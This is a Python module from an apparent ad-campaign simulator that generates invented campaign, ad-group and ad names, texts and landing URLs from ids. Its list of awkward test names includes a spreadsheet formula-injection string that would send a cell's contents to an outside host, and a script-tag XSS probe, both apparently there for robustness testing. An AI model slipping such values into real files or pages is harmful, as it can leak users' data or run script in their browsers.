"""Invented names and texts; what an object is called follows from its id alone."""

from typing import Final

from adloom.simulator.world.kinds import CAMPAIGN_KINDS

__all__ = ["AWKWARD_NAMES", "ad_name", "ad_text", "campaign_name", "group_name", "landing_page"]

SEASONS: Final = (
    "Spring",
    "Summer",
    "Herbst",
    "Winter",
    "Back to school",
    "Été",
    "Weekend",
    "新年",
)
PRODUCTS: Final = (
    "Trail Runner",
    "Rain Jacket",
    "Kaffee-Abo",
    "Travel Mug",
    "Wool Socks",
    "Bike Light",
    "Sac à dos",
    "水筒",
    "Camping Stove",
    "Yoga Mat",
    "Hängematte",
    "Desk Lamp",
    "Mochila",
    "Headphones",
    "Tea Sampler",
    "Garden Kit",
)
MARKETS: Final = ("US", "DE", "FR", "JP", "UK", "ES", "BR", "AU", "DACH", "LATAM")
AUDIENCES: Final = (
    "Broad",
    "Lookalike 1%",
    "Retargeting 30d",
    "Interest: outdoor",
    "Visitors - no purchase",
    "Cart 7d",
    "Neukunden",
    "Fans",
)
HOOKS: Final = (
    "UGC unboxing",
    "Founder story",
    "Before/after",
    "3 reasons",
    "POV",
    "Testimonial",
    "Studio cut",
    "Mashup",
    "Tutorial",
    "ASMR",
    "Duett",
    "Street interview",
)
TEXTS: Final = (
    "Made for wet days and long walks.",
    "Try it for thirty days, send it back if you like.",
    "Ab heute wieder da: solange der Vorrat reicht.",
    "Your bag will thank you.",
    "Light, warm, and it fits in a pocket.",
    "Le confort, sans compromis.",
    "Two for one until Sunday night!",
    "Ask anyone who owns one.",
    "まずは一週間、無料で。",
    "Built to be repaired.",
)
EDITED: Final = ("new cut", "v2", "shorter", "neuer Text", "b-roll", "no music", "subtitled")

#: Names that spread over spreadsheets, terminals, web pages and templates like a bad cold.
AWKWARD_NAMES: Final = (
    '=HYPERLINK("https://example.com/?leak="&A1,"Open report")',
    "<script>alert('ad')</script>",
    "🔥🔥 Summer drop 👩‍👩‍👧 ½ price 🏳️‍🌈",
    "تخفيضات نهاية الموسم - فيديو قصير ٣",
    "מבצע קיץ (גרסה ב)",
    "Long " + "and longer " * 45 + "name",
    'Quoted "name", with, commas; and\ta tab',
    "{{ads.ad_name}} & {{now}}",
    "Cafe\u0301 cre\u0300me \u200bzero\u200dwidth",
    "  spaces around  ",
    "000123",
    "null",
)


def campaign_name(mixed: int, kind: int) -> str:
    """What a campaign is called."""
    season = SEASONS[mixed % 8]
    product = PRODUCTS[(mixed >> 3) % 16]
    market = MARKETS[(mixed >> 7) % 10]
    return f"{season} {product} | {market} | {CAMPAIGN_KINDS[kind].title}"


def group_name(mixed: int) -> str:
    """What an ad group is called."""
    low = 18 + (mixed >> 3) % 30
    return f"{AUDIENCES[mixed % 8]} {low}-{low + 12} #{(mixed >> 8) % 1000}"


def ad_name(mixed: int) -> str:
    """What an ad is called."""
    hook = HOOKS[mixed % 12]
    product = PRODUCTS[(mixed >> 4) % 16]
    number = (mixed >> 8) % 10000
    if mixed >> 21 & 1:
        return f"{hook} {product} v{number % 9 + 1} #{number}"
    return f"{product}_{hook}_{number:04d}_9x16"


def ad_text(mixed: int) -> str:
    """What an ad says."""
    return TEXTS[(mixed >> 11) % 10]


def landing_page(mixed: int) -> str:
    """Where an ad leads."""
    return f"https://shop.example.com/p/{mixed >> 8:06x}?utm_source=tiktok&utm_content={mixed:08x}"
